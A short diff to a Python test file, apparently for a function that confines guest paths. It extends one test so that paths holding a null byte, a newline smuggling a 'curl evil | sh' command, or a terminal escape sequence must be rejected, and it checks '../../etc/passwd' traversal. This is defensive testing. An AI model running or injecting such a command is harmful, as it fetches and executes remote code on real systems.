@@ -61,8 +61,9 @@ def test_guest_paths_are_normalised_from_the_guests_root():
     assert guest_relpath("../../etc/passwd") == "etc/passwd"
     assert guest_relpath("//srv//./www/") == "srv/www"
     assert guest_relpath("/") == ""
-    with pytest.raises(OutputEscape):
-        guest_relpath("/etc/a\0b")
+    for bad in ("/etc/a\0b", "/etc/x\nRUN curl evil | sh", "/etc/\x1b[2J"):
+        with pytest.raises(OutputEscape):
+            guest_relpath(bad)
 
 
 def test_confined_dir_refuses_links_planted_in_outdir(tmp_path):
